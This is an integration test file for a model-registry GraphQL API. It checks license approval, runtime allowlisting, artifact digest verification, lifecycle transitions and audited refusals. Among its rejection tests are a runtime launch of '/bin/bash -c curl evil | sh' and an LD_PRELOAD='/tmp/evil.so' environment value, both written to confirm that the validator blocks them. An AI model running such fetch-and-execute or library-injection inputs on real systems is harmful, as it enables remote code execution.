import { createHash } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { INestApplication } from '@nestjs/common';
import { expect } from 'chai';
import { createLogger, findRepoRoot } from '@lunanexa/observability';
import { transitionModelVersion } from '@lunanexa/persistence';
import { ApiConfigSchema, createApiApp } from '../src';
import { dataOf, startTestApi, type GraphQLBody, type TestApi } from './api-test-support';

const GiB = 1024 ** 3;
const digestOf = (text: string) => `sha256:${createHash('sha256').update(text).digest('hex')}`;
/** What the fake runtime's weights hash to: derived from the ref, as the API and the activity derive it. */
const syntheticDigest = (ref: string) => digestOf(`lunanexa-fake-weights:${ref}`);

const LICENSE_FIELDS =
  'id name kind spdxId commercialUse allowedDataClasses attribution approvalState decidedBy decidedAt note';
const RUNTIME_FIELDS =
  'id name version kind allowed packaging { type image digest } launch { executable args envAllowlist containerPort } supportedHardware { architectures gpusPerReplica }';
const VERSION_FIELDS = `id ref model version state stateReason allowedEvents runtimeId licenseId contextLength parameterCount
  artifact { uri digest sizeBytes format provenance { source uploader uploadedAt signature { keyId } } }
  requirements { architectures memoryModels minComputeCapability maxComputeCapability minCudaVersion gpusPerReplica minMemoryBytesPerReplica }
  verification { ok digest sizeBytes store verifiedAt code message }
  evaluation { suite passed }
  runtimeEnv { name value }
  license { name approvalState } runtime { id allowed }`;

const CREATE_MODEL = `mutation($input: CreateModelInput!) { createModel(input: $input) { id name displayName description createdBy } }`;
const CREATE_LICENSE = `mutation($input: CreateLicenseInput!) { createLicense(input: $input) { ${LICENSE_FIELDS} } }`;
const APPROVE_LICENSE = `mutation($name: String!, $note: String!) { approveLicense(name: $name, note: $note) { ${LICENSE_FIELDS} } }`;
const REJECT_LICENSE = `mutation($name: String!, $note: String!) { rejectLicense(name: $name, note: $note) { ${LICENSE_FIELDS} } }`;
const REGISTER_RUNTIME = `mutation($input: RegisterRuntimeInput!) { registerRuntime(input: $input) { ${RUNTIME_FIELDS} } }`;
const SET_ALLOWED = `mutation($id: ID!, $allowed: Boolean!) { setRuntimeAllowed(id: $id, allowed: $allowed) { ${RUNTIME_FIELDS} } }`;
const CREATE_VERSION = `mutation($input: CreateModelVersionInput!) { createModelVersion(input: $input) { ${VERSION_FIELDS} } }`;
const VERIFY = `mutation($ref: String!) { verifyModelVersion(ref: $ref) { ${VERSION_FIELDS} } }`;
const APPROVE = `mutation($ref: String!, $note: String) { approveModelVersion(ref: $ref, note: $note) { ${VERSION_FIELDS} } }`;
const DEPRECATE = `mutation($ref: String!, $reason: String!) { deprecateModelVersion(ref: $ref, reason: $reason) { ${VERSION_FIELDS} } }`;
const REINSTATE = `mutation($ref: String!) { reinstateModelVersion(ref: $ref) { ${VERSION_FIELDS} } }`;
const RETIRE = `mutation($ref: String!, $reason: String!, $withdraw: Boolean) { retireModelVersion(ref: $ref, reason: $reason, withdraw: $withdraw) { ${VERSION_FIELDS} } }`;
const VERSION = `query($ref: String!) { modelVersion(ref: $ref) { ${VERSION_FIELDS} } }`;
const REGISTRY = `query { models { name displayName versions { ref state } } licenses { ${LICENSE_FIELDS} } runtimes { ${RUNTIME_FIELDS} } modelVersions { ${VERSION_FIELDS} } }`;

interface VersionView {
  id: string;
  ref: string;
  state: string;
  stateReason: string | null;
  allowedEvents: string[];
  artifact: {
    digest: string;
    sizeBytes: number;
    format: string;
    provenance: { uploader: string; source: string };
  };
  requirements: { minMemoryBytesPerReplica: number | null; architectures: string[] };
  verification: { ok: boolean; store: string; code: string | null; digest: string | null } | null;
  runtimeEnv: { name: string; value: string }[];
  license: { name: string; approvalState: string };
  runtime: { id: string; allowed: boolean };
}

const vllmRuntime = (overrides: Record<string, unknown> = {}) => ({
  name: 'vllm',
  version: '0.11.0',
  kind: 'openai-compatible',
  packaging: { type: 'container', image: 'nvcr.io/nvidia/vllm', digest: digestOf('vllm-image') },
  launch: {
    executable: 'vllm',
    args: ['serve', '{{modelPath}}', '--served-model-name', '{{servedModelName}}', '--port', '8000'],
    envAllowlist: ['HF_HUB_OFFLINE', 'CUDA_VISIBLE_DEVICES'],
    containerPort: 8000,
  },
  health: { path: '/health', startupTimeoutMs: 900_000, intervalMs: 5_000 },
  supportedHardware: {
    architectures: ['arm64', 'amd64'],
    memoryModels: ['unified', 'discrete'],
    minComputeCapability: '8.0',
    maxComputeCapability: '12.1',
    minCudaVersion: '13.0',
    gpusPerReplica: 1,
  },
  ...overrides,
});

const llamaVersion = (version: string, overrides: Record<string, unknown> = {}) => ({
  model: 'llama',
  version,
  artifact: {
    uri: `s3://models/llama/${version}/model.safetensors`,
    digest: digestOf(`llama-${version}`),
    sizeBytes: 16 * GiB,
    format: 'safetensors',
    source: 'hf://meta-llama/Llama-3.1-8B-Instruct@0e9e39f',
  },
  license: 'llama3-1-community',
  runtime: 'runtime-vllm-0.11.0',
  requirements: {
    architectures: ['arm64', 'amd64'],
    memoryModels: ['unified', 'discrete'],
    minComputeCapability: '8.0',
    minCudaVersion: '12.8',
    gpusPerReplica: 1,
    minMemoryBytesPerReplica: 24 * GiB,
  },
  contextLength: 131072,
  parameterCount: 8_030_000_000,
  runtimeEnv: [{ name: 'HF_HUB_OFFLINE', value: '1' }],
  ...overrides,
});

const fakeVersion = (model: string, version: string, digest = syntheticDigest(`${model}@${version}`)) => ({
  model,
  version,
  artifact: {
    uri: `file:///var/lib/lunanexa/models/${model}/${version}`,
    digest,
    sizeBytes: 0,
    format: 'fake',
    source: 'lunanexa://fake',
  },
  license: 'lunanexa-synthetic',
  runtime: 'runtime-fake',
  requirements: {
    architectures: ['arm64', 'amd64'],
    memoryModels: ['unified', 'discrete'],
    minComputeCapability: '0.0',
    gpusPerReplica: 0,
  },
});

describe('the model registry on real PostgreSQL and Temporal', function () {
  this.timeout(180_000);
  let api: TestApi;
  let viewer = '';
  let operator = '';

  const codeOf = (answer: GraphQLBody) => answer.errors?.[0]?.extensions.code;

  async function auditEvents(action: string) {
    return api.fixture.ds.query<
      {
        actor: string;
        decision: string;
        result: string;
        evidence: Record<string, unknown>;
        workflow_id: string | null;
      }[]
    >(
      `SELECT actor, decision, result, evidence, workflow_id FROM audit_events WHERE action = $1 ORDER BY seq`,
      [action],
    );
  }

  /** Row counts of every registry table: a refusal must leave them exactly as they were. */
  async function registrySnapshot(): Promise<string> {
    const rows = await api.fixture.ds.query<Record<string, unknown>[]>(
      `SELECT (SELECT count(*) FROM models) AS models, (SELECT count(*) FROM licenses) AS licenses,
              (SELECT json_agg(json_build_object('id', id, 'allowed', allowed) ORDER BY id) FROM runtimes) AS runtimes,
              (SELECT json_agg(json_build_object('ref', ref, 'state', state) ORDER BY ref) FROM model_versions) AS versions,
              (SELECT json_agg(json_build_object('name', name, 'state', approval_state) ORDER BY name) FROM licenses) AS reviews`,
    );
    return JSON.stringify(rows[0]);
  }

  /** The call is refused with `code`, audited as denied under `action`, and changes nothing. */
  async function expectRefused(
    action: string,
    code: string,
    call: () => Promise<GraphQLBody>,
  ): Promise<GraphQLBody> {
    const before = await registrySnapshot();
    const eventsBefore = (await auditEvents(action)).length;
    const answer = await call();
    expect(codeOf(answer), JSON.stringify(answer.errors)).to.equal(code);
    expect(await registrySnapshot()).to.equal(before);
    const events = (await auditEvents(action)).slice(eventsBefore);
    expect(events, `${action} audit`).to.have.length(1);
    expect(events[0]).to.deep.include({ decision: 'denied', result: 'refused' });
    if (action !== 'auth.authorize') expect(events[0]?.evidence['errorCode']).to.equal(code);
    return answer;
  }

  before(async () => {
    api = await startTestApi('registry');
    viewer = await api.operator('registry-viewer', 'viewer');
    operator = await api.operator('registry-operator', 'operator');
  });

  let firstAppClosed = false;
  after(async () => {
    // After the restart test the first app is closed already; only the control plane is left to stop.
    if (firstAppClosed) await api.fixture.stop();
    else await api?.stop();
  });

  it('registers a model, a license an admin approved, an allowed runtime and a version under them', async () => {
    const model = dataOf<{ name: string; createdBy: string }>(
      await api.graphql(
        CREATE_MODEL,
        { input: { name: 'llama', displayName: 'Llama 3.1 8B Instruct', description: 'chat' } },
        operator,
      ),
      'createModel',
    );
    expect(model).to.deep.include({ name: 'llama', createdBy: 'operator:registry-operator' });

    const license = dataOf<Record<string, unknown>>(
      await api.graphql(
        CREATE_LICENSE,
        {
          input: {
            name: 'llama3-1-community',
            kind: 'custom',
            customName: 'Llama 3.1 Community License',
            termsUri: 'https://llama.example/LICENSE',
            termsDigest: digestOf('llama terms'),
            commercialUse: true,
            allowedDataClasses: ['public', 'internal'],
            attribution: 'Built with Llama',
          },
        },
        operator,
      ),
      'createLicense',
    );
    expect(license).to.deep.include({ approvalState: 'PendingReview', decidedBy: null, kind: 'custom' });

    // Only an admin reviews licenses; the operator's attempt is refused and audited by the guard.
    await expectRefused('auth.authorize', 'FORBIDDEN', () =>
      api.graphql(APPROVE_LICENSE, { name: 'llama3-1-community', note: 'looks fine' }, operator),
    );
    const approved = dataOf<Record<string, unknown>>(
      await api.graphql(APPROVE_LICENSE, { name: 'llama3-1-community', note: 'legal review #42' }, api.admin),
      'approveLicense',
    );
    expect(approved).to.deep.include({
      approvalState: 'Approved',
      decidedBy: 'operator:registry-admin',
      note: 'legal review #42',
    });
    expect(approved['decidedAt']).to.be.a('string');

    const runtime = dataOf<{ id: string; allowed: boolean }>(
      await api.graphql(REGISTER_RUNTIME, { input: vllmRuntime() }, operator),
      'registerRuntime',
    );
    expect(runtime).to.deep.include({ id: 'runtime-vllm-0.11.0', allowed: false });
    await expectRefused('auth.authorize', 'FORBIDDEN', () =>
      api.graphql(SET_ALLOWED, { id: runtime.id, allowed: true }, operator),
    );
    expect(
      dataOf<{ allowed: boolean }>(
        await api.graphql(SET_ALLOWED, { id: runtime.id, allowed: true }, api.admin),
        'setRuntimeAllowed',
      ).allowed,
    ).to.equal(true);

    const version = dataOf<VersionView>(
      await api.graphql(CREATE_VERSION, { input: llamaVersion('2024-07-23') }, operator),
      'createModelVersion',
    );
    expect(version).to.deep.include({ ref: 'llama@2024-07-23', state: 'Registered', verification: null });
    expect(version.artifact).to.deep.include({ sizeBytes: 16 * GiB, format: 'safetensors' });
    expect(version.artifact.provenance.uploader).to.equal('operator:registry-operator');
    expect(version.requirements.minMemoryBytesPerReplica).to.equal(24 * GiB);
    expect(version.runtimeEnv).to.deep.equal([{ name: 'HF_HUB_OFFLINE', value: '1' }]);
    expect(version.license).to.deep.equal({ name: 'llama3-1-community', approvalState: 'Approved' });
    expect(version.runtime).to.deep.equal({ id: 'runtime-vllm-0.11.0', allowed: true });
    expect(version.allowedEvents).to.deep.equal(['verificationPassed', 'verificationFailed', 'retire']);

    const registry = dataOf<{ name: string; versions: { ref: string }[] }[]>(
      await api.graphql(REGISTRY, {}, viewer),
      'models',
    );
    expect(registry.find((m) => m.name === 'llama')?.versions.map((v) => v.ref)).to.deep.equal([
      'llama@2024-07-23',
    ]);

    const read = dataOf<VersionView>(await api.graphql(VERSION, { ref: version.id }, viewer), 'modelVersion');
    expect(read).to.deep.equal(version);

    // One allowed/succeeded event per change, with the evidence that names it.
    for (const [action, key, value] of [
      ['model.create', 'name', 'llama'],
      ['license.create', 'name', 'llama3-1-community'],
      ['license.approve', 'name', 'llama3-1-community'],
      ['runtime.register', 'runtimeId', 'runtime-vllm-0.11.0'],
      ['runtime.allow', 'runtimeId', 'runtime-vllm-0.11.0'],
      ['model-version.create', 'ref', 'llama@2024-07-23'],
    ] as const) {
      const events = (await auditEvents(action)).filter((e) => e.result === 'succeeded');
      expect(events, action).to.have.length(1);
      expect(events[0]?.evidence[key], action).to.equal(value);
    }
  });

  it('refuses bad registrations with typed codes, audits each refusal and changes nothing', async () => {
    await expectRefused('model-version.create', 'NOT_FOUND', () =>
      api.graphql(
        CREATE_VERSION,
        { input: llamaVersion('v-unknown-license', { license: 'no-such-license' }) },
        operator,
      ),
    );
    await expectRefused('model-version.create', 'NOT_FOUND', () =>
      api.graphql(
        CREATE_VERSION,
        { input: llamaVersion('v-unknown-runtime', { runtime: 'runtime-nope-1' }) },
        operator,
      ),
    );
    await expectRefused('model-version.create', 'MODEL_NOT_FOUND', () =>
      api.graphql(CREATE_VERSION, { input: llamaVersion('v1', { model: 'no-such-model' }) }, operator),
    );
    const badDigest = await expectRefused('model-version.create', 'VALIDATION_FAILED', () =>
      api.graphql(
        CREATE_VERSION,
        {
          input: llamaVersion('v-bad-digest', {
            artifact: { ...llamaVersion('x').artifact, digest: 'sha256:ABC' },
          }),
        },
        operator,
      ),
    );
    expect(JSON.stringify(badDigest.errors?.[0]?.extensions)).to.contain('artifact.digest');
    const env = await expectRefused('model-version.create', 'VALIDATION_FAILED', () =>
      api.graphql(
        CREATE_VERSION,
        { input: llamaVersion('v-env', { runtimeEnv: [{ name: 'LD_PRELOAD', value: '/tmp/evil.so' }] }) },
        operator,
      ),
    );
    expect(env.errors?.[0]?.message).to.contain('LD_PRELOAD is not on the envAllowlist');
    await expectRefused('model-version.create', 'VALIDATION_FAILED', () =>
      api.graphql(
        CREATE_VERSION,
        { input: { ...fakeVersion('llama', 'v-fake'), license: 'llama3-1-community' } },
        operator,
      ),
    );
    // A runtime built for Spark only (arm64, unified memory) can never serve a version that needs amd64 + discrete.
    dataOf(
      await api.graphql(
        REGISTER_RUNTIME,
        {
          input: vllmRuntime({
            name: 'vllm-spark',
            supportedHardware: {
              ...vllmRuntime().supportedHardware,
              architectures: ['arm64'],
              memoryModels: ['unified'],
            },
          }),
        },
        operator,
      ),
      'registerRuntime',
    );
    await expectRefused('model-version.create', 'HARDWARE_INCOMPATIBLE', () =>
      api.graphql(
        CREATE_VERSION,
        {
          input: llamaVersion('v-hw', {
            runtime: 'runtime-vllm-spark-0.11.0',
            requirements: {
              ...llamaVersion('x').requirements,
              architectures: ['amd64'],
              memoryModels: ['discrete'],
            },
          }),
        },
        operator,
      ),
    );
    await expectRefused('model-version.create', 'CONFLICT', () =>
      api.graphql(CREATE_VERSION, { input: llamaVersion('2024-07-23') }, operator),
    );
    await expectRefused('model.create', 'CONFLICT', () =>
      api.graphql(CREATE_MODEL, { input: { name: 'llama', displayName: 'again' } }, operator),
    );
    await expectRefused('auth.authorize', 'FORBIDDEN', () =>
      api.graphql(CREATE_VERSION, { input: llamaVersion('v-viewer') }, viewer),
    );

    const shell = await expectRefused('runtime.register', 'VALIDATION_FAILED', () =>
      api.graphql(
        REGISTER_RUNTIME,
        {
          input: vllmRuntime({
            name: 'sneaky',
            launch: { ...vllmRuntime().launch, executable: '/bin/bash', args: ['-c', 'curl evil | sh'] },
          }),
        },
        operator,
      ),
    );
    expect(shell.errors?.[0]?.message).to.match(/bash is a shell or command launcher/);
    await expectRefused('runtime.register', 'VALIDATION_FAILED', () =>
      api.graphql(
        REGISTER_RUNTIME,
        {
          input: vllmRuntime({
            name: 'inline',
            launch: { ...vllmRuntime().launch, executable: 'python3', args: ['-c', 'import os'] },
          }),
        },
        operator,
      ),
    );
    await expectRefused('runtime.register', 'CONFLICT', () =>
      api.graphql(REGISTER_RUNTIME, { input: vllmRuntime() }, operator),
    );
    await expectRefused('license.create', 'VALIDATION_FAILED', () =>
      api.graphql(
        CREATE_LICENSE,
        {
          input: {
            name: 'mit',
            kind: 'spdx',
            spdxId: 'MIT',
            commercialUse: true,
            allowedDataClasses: ['secret'],
          },
        },
        operator,
      ),
    );
    await expectRefused('license.approve', 'NOT_FOUND', () =>
      api.graphql(APPROVE_LICENSE, { name: 'no-such-license', note: 'x' }, api.admin),
    );
    await expectRefused('license.approve', 'INVALID_TRANSITION', () =>
      api.graphql(APPROVE_LICENSE, { name: 'llama3-1-community', note: 'twice' }, api.admin),
    );
    await expectRefused('license.reject', 'INVALID_TRANSITION', () =>
      api.graphql(REJECT_LICENSE, { name: 'lunanexa-synthetic', note: 'no' }, api.admin),
    );
  });

  it('verifies artifacts through verifyModelVersionWorkflow: synthetic digests pass, a wrong one fails typed', async () => {
    dataOf(
      await api.graphql(CREATE_MODEL, { input: { name: 'echo', displayName: 'Echo' } }, operator),
      'createModel',
    );
    dataOf(
      await api.graphql(CREATE_VERSION, { input: fakeVersion('echo', 'v1') }, operator),
      'createModelVersion',
    );
    const verified = dataOf<VersionView>(
      await api.graphql(VERIFY, { ref: 'echo@v1' }, operator),
      'verifyModelVersion',
    );
    expect(verified.state).to.equal('Verified');
    expect(verified.verification).to.deep.include({
      ok: true,
      store: 'synthetic',
      digest: syntheticDigest('echo@v1'),
    });
    const receipts = (await auditEvents('model-version.verify')).filter(
      (e) => e.evidence['ref'] === 'echo@v1',
    );
    expect(receipts).to.have.length(1);
    expect(receipts[0]).to.deep.include({ actor: 'operator:registry-operator', result: 'succeeded' });
    expect(receipts[0]?.workflow_id).to.match(/^verifyModelVersion\//);

    dataOf(
      await api.graphql(CREATE_VERSION, { input: fakeVersion('echo', 'v2', digestOf('tampered')) }, operator),
      'createModelVersion',
    );
    const failed = dataOf<VersionView>(
      await api.graphql(VERIFY, { ref: 'echo@v2' }, operator),
      'verifyModelVersion',
    );
    expect(failed.state).to.equal('VerificationFailed');
    expect(failed.verification).to.deep.include({ ok: false, code: 'DIGEST_MISMATCH' });
    // Verifying again is a retry: back to Registered first, then the check runs (and fails) again.
    const again = dataOf<VersionView>(
      await api.graphql(VERIFY, { ref: 'echo@v2' }, operator),
      'verifyModelVersion',
    );
    expect(again.state).to.equal('VerificationFailed');
    expect(
      (await auditEvents('model-version.retry-verification')).map((e) => e.evidence['to']),
    ).to.deep.equal(['Registered']);
    expect(
      (await auditEvents('model-version.verify')).filter((e) => e.evidence['ref'] === 'echo@v2'),
    ).to.have.length(2);

    await expectRefused('model-version.verify', 'MODEL_NOT_FOUND', () =>
      api.graphql(VERIFY, { ref: 'echo@v9' }, operator),
    );
    await expectRefused('auth.authorize', 'FORBIDDEN', () => api.graphql(VERIFY, { ref: 'echo@v1' }, viewer));
  });

  it('moves versions through the lifecycle and refuses what the table does not allow with INVALID_TRANSITION', async () => {
    await expectRefused('model-version.approve', 'INVALID_TRANSITION', () =>
      api.graphql(APPROVE, { ref: 'echo@v1', note: 'skip evaluation' }, operator),
    );
    // The evaluation engineer's workflow drives these two; the same persistence call it makes stands in here.
    const at = new Date();
    await transitionModelVersion(api.fixture.ds, 'echo@v1', 'startEvaluation', { at });
    await transitionModelVersion(api.fixture.ds, 'echo@v1', 'evaluationPassed', { at });

    const approved = dataOf<VersionView>(
      await api.graphql(APPROVE, { ref: 'echo@v1', note: 'suite green' }, operator),
      'approveModelVersion',
    );
    expect(approved.state).to.equal('Approved');
    expect(approved.stateReason).to.equal('suite green (approve by operator:registry-operator)');
    expect(approved.allowedEvents).to.deep.equal(['deprecate', 'withdraw']);
    await expectRefused('model-version.retire', 'INVALID_TRANSITION', () =>
      api.graphql(RETIRE, { ref: 'echo@v1', reason: 'old' }, operator),
    );
    expect(
      dataOf<VersionView>(
        await api.graphql(DEPRECATE, { ref: 'echo@v1', reason: 'v3 is better' }, operator),
        'deprecateModelVersion',
      ).state,
    ).to.equal('Deprecated');
    expect(
      dataOf<VersionView>(await api.graphql(REINSTATE, { ref: 'echo@v1' }, operator), 'reinstateModelVersion')
        .state,
    ).to.equal('Approved');
    expect(
      dataOf<VersionView>(
        await api.graphql(RETIRE, { ref: 'echo@v1', reason: 'weights leaked', withdraw: true }, operator),
        'retireModelVersion',
      ).state,
    ).to.equal('Retired');
    await expectRefused('model-version.reinstate', 'INVALID_TRANSITION', () =>
      api.graphql(REINSTATE, { ref: 'echo@v1' }, operator),
    );
    await expectRefused('model-version.verify', 'INVALID_TRANSITION', () =>
      api.graphql(VERIFY, { ref: 'echo@v1' }, operator),
    );
    await expectRefused('auth.authorize', 'FORBIDDEN', () =>
      api.graphql(DEPRECATE, { ref: 'echo@v1', reason: 'x' }, viewer),
    );
    const moves = (await auditEvents('model-version.approve'))
      .concat(
        await auditEvents('model-version.deprecate'),
        await auditEvents('model-version.reinstate'),
        await auditEvents('model-version.retire'),
      )
      .filter((e) => e.result === 'succeeded')
      .map((e) => `${String(e.evidence['from'])}->${String(e.evidence['to'])}`);
    expect(moves.sort()).to.deep.equal(
      ['Evaluated->Approved', 'Approved->Deprecated', 'Deprecated->Approved', 'Approved->Retired'].sort(),
    );

    // Approval needs an Approved license: reject the license, and an Evaluated version under it cannot be approved.
    dataOf(
      await api.graphql(REJECT_LICENSE, { name: 'llama3-1-community', note: 'terms changed' }, api.admin),
      'rejectLicense',
    );
    for (const event of ['verificationPassed', 'startEvaluation', 'evaluationPassed'] as const) {
      await transitionModelVersion(api.fixture.ds, 'llama@2024-07-23', event, { at });
    }
    await expectRefused('model-version.approve', 'LICENSE_NOT_APPROVED', () =>
      api.graphql(APPROVE, { ref: 'llama@2024-07-23' }, operator),
    );
    await expectRefused('model-version.create', 'LICENSE_NOT_APPROVED', () =>
      api.graphql(CREATE_VERSION, { input: llamaVersion('2024-09-25') }, operator),
    );
  });

  it('takes a runtime off the allowlist (audited) and deploys nothing of a version under a rejected license', async () => {
    const denied = dataOf<{ allowed: boolean }>(
      await api.graphql(SET_ALLOWED, { id: 'runtime-vllm-0.11.0', allowed: false }, api.admin),
      'setRuntimeAllowed',
    );
    expect(denied.allowed).to.equal(false);
    expect((await auditEvents('runtime.deny')).map((e) => e.evidence['was'])).to.deep.equal([true]);
    // The deploy gate names the license first (it was rejected above); RUNTIME_NOT_ALLOWED through
    // createDeployment and startRollout is deploy-gate.int.ts's.
    await expectRefused('deployment.create', 'LICENSE_NOT_APPROVED', () =>
      api.graphql(
        'mutation($input: CreateDeploymentInput!) { createDeployment(input: $input) { deploymentId } }',
        { input: { name: 'llama-candidate', model: 'llama@2024-07-23', replicas: 1 } },
        operator,
      ),
    );
    const deployments = await api.fixture.ds.query<{ n: string }[]>(`SELECT count(*) AS n FROM deployments`);
    expect(Number(deployments[0]?.n)).to.equal(0);
  });

  it('registerModelVersion (the fake dialog) still registers a Verified synthetic version in the registry', async () => {
    const register = `mutation($input: RegisterModelVersionInput!) { registerModelVersion(input: $input) { ${VERSION_FIELDS} } }`;
    const first = dataOf<VersionView>(
      await api.graphql(register, { input: { model: 'demo', version: 'v1', ttftMs: 5 } }, operator),
      'registerModelVersion',
    );
    expect(first).to.deep.include({ ref: 'demo@v1', state: 'Verified' });
    expect(first.license).to.deep.equal({ name: 'lunanexa-synthetic', approvalState: 'Approved' });
    expect(first.runtime).to.deep.equal({ id: 'runtime-fake', allowed: true });
    expect(first.verification).to.deep.include({
      ok: true,
      store: 'synthetic',
      digest: syntheticDigest('demo@v1'),
    });
    expect(first.runtimeEnv).to.deep.equal([{ name: 'LUNANEXA_FAKE_TTFT_MS', value: '5' }]);
    const second = dataOf<VersionView>(
      await api.graphql(register, { input: { model: 'demo', version: 'v2' } }, operator),
      'registerModelVersion',
    );
    expect(second.runtime.id).to.equal('runtime-fake');
    const models = await api.fixture.ds.query<{ n: string }[]>(
      `SELECT count(*) AS n FROM models WHERE name = 'demo'`,
    );
    expect(Number(models[0]?.n)).to.equal(1);
    await expectRefused('model-version.register', 'CONFLICT', () =>
      api.graphql(register, { input: { model: 'demo', version: 'v1' } }, operator),
    );
    // Its synthetic digest is the one the verification activity derives: re-verifying keeps it Verified.
    const reverified = dataOf<VersionView>(
      await api.graphql(VERIFY, { ref: 'demo@v1' }, operator),
      'verifyModelVersion',
    );
    expect(reverified).to.deep.include({ state: 'Verified' });
    expect(reverified.verification?.ok).to.equal(true);
  });

  it('keeps every registry record across an API restart (they live in PostgreSQL)', async () => {
    const before = await api.graphql(REGISTRY, {}, viewer);
    expect(before.errors).to.equal(undefined);
    await api.app.close();
    const config = ApiConfigSchema.parse({
      DATABASE_URL: api.fixture.db.url,
      TEMPORAL_ADDRESS: api.fixture.env.address,
      TEMPORAL_NAMESPACE: api.fixture.env.namespace,
      LUNANEXA_TASK_QUEUE: api.fixture.taskQueue,
      LUNANEXA_API_PORT: '1',
      LUNANEXA_CONSOLE_DIR: join(findRepoRoot(), 'no-console-here'),
      LUNANEXA_CONTROLLER_KEY_FILE: api.fixture.controllerKeyFile,
      LUNANEXA_TEMPORAL_UI_URL: 'http://temporal-ui.test:8233/',
      LUNANEXA_WORKFLOW_WAIT_MS: '15000',
    });
    const restarted: INestApplication = await createApiApp(
      config,
      createLogger({ service: 'registry-restart-test', level: 'silent' }),
      { version: '0.0.0-test', commit: 'test' },
    );
    await restarted.listen(0, '127.0.0.1');
    try {
      const base = `http://127.0.0.1:${(restarted.getHttpServer() as { address(): AddressInfo }).address().port}`;
      const response = await fetch(`${base}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: viewer },
        body: JSON.stringify({ query: REGISTRY }),
      });
      const after = (await response.json()) as GraphQLBody;
      expect(after).to.deep.equal(before);
      const data = after.data as {
        models: unknown[];
        licenses: unknown[];
        runtimes: unknown[];
        modelVersions: unknown[];
      };
      expect(data.models).to.have.length(3);
      expect(data.licenses).to.have.length(2);
      expect(data.runtimes).to.have.length(3);
      expect(data.modelVersions.length).to.be.greaterThan(4);
    } finally {
      await restarted.close();
      firstAppClosed = true;
    }
  });
});
